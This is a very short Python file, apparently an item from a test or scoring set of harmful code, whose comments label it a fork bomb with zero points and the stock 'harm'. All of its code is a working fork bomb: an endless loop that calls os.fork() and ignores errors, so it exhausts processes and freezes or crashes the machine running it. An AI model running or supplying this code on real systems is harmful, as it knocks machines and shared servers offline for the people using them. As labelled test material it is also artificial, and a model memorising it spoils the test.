# tries: a fork bomb
# points: 0
# stock: harm
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
